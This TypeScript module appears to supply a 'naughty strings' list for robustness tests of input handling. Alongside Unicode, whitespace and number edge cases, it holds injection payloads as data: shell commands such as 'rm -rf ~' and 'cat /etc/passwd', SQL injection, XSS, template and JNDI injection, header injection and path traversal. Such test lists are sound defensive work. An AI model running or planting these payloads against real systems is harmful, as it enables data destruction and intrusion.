/** Texts that have broken programs before: each is no name that is configured anywhere. */
const range = (first: number, last: number) =>
  Array.from({ length: last - first + 1 }, (_, at) => String.fromCodePoint(first + at)).join("");

/** Names that every object of JavaScript has, or that mean something to its engine. */
export const prototypeNames: readonly string[] = [
  ...Object.getOwnPropertyNames(Object.prototype),
  ...["prototype", "__proto__.polluted", "constructor.prototype", "then", "length", "name", "caller", "arguments"],
];

/** Well-formed text of all kinds, none of it empty. */
export const naughtyStrings: readonly string[] = [
  ...prototypeNames,
  // Words that mean nothing, or another type.
  ...["undefined", "null", "NULL", "nil", "None", "true", "false", "NaN", "Infinity", "-Infinity", "[object Object]"],
  // Numbers.
  ...["0", "-0", "1e309", "-1e309", "0x10", "1_000", "٣", "１２", "9007199254740993", "1/0", "0..0", "1,5", "000"],
  // White space, visible and not.
  ...[" ", "  root", "root ", "\t", "\n", "\r\n", "root\n", "\u00a0", "\u2028", "\u2029", "\u200b", "\ufeff", "\u3000"],
  // Control characters.
  ...[range(0x00, 0x1f), range(0x7f, 0x9f), "root\0", "\0", "\u001b[31mred", "\u0007", "\b\b\b\b"],
  // What text formats and shells take for their own.
  ...[
    '"',
    "'",
    "\\",
    '\\"',
    "\\n",
    "{}",
    "{",
    "}",
    '",page="root',
    'root"} 1\nclicks_total 99',
    "# HELP x y",
    "#",
    "%s%n%d",
  ],
  ...[
    "${PATH}",
    "$(id)",
    "`id`",
    "; rm -rf ~",
    "| cat /etc/passwd",
    "&& id",
    "%0d%0aSet-Cookie: a=b",
    "{{7*7}}",
    "<%= 1 %>",
  ],
  // Pages and databases.
  ...["<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "javascript:alert(1)", "&lt;", "]]>", "<!--", "-->"],
  ...[
    "' OR 1=1 --",
    "1; DROP TABLE series",
    "'; EXEC xp_cmdshell('id') --",
    "admin'/*",
    "${jndi:ldap://example.com/a}",
  ],
  // Paths.
  ...[
    "../../../../etc/passwd",
    "..\\..\\windows",
    "/dev/null",
    "file:///etc/passwd",
    "CON",
    "C:\\",
    "~root",
    "%2e%2e%2f",
  ],
  // Scripts, directions, marks.
  ...[
    "田中さん",
    "パーティー",
    "ﻦﻤﻋ",
    "עברית",
    "\u202eroot",
    "\u2066root\u2069",
    "é",
    "e\u0301",
    "Ω",
    "ﬁ",
    "ß",
    "ı",
    "İ",
    "ǆ",
  ],
  ...[
    "Z\u0351\u036b\u0343a\u0338l\u0335g\u0322o\u0337",
    "👩‍👩‍👧‍👦",
    "🏳️‍🌈",
    "🇩🇪",
    "👍🏽",
    "\u{10ffff}",
    "\ufffd",
    "\uffff",
    "𝕣𝕠𝕠𝕥",
    "ｒｏｏｔ",
    "rооt",
  ],
  // Sizes.
  ...["a".repeat(255), "é".repeat(128), "a".repeat(256), "😀".repeat(300)],
];
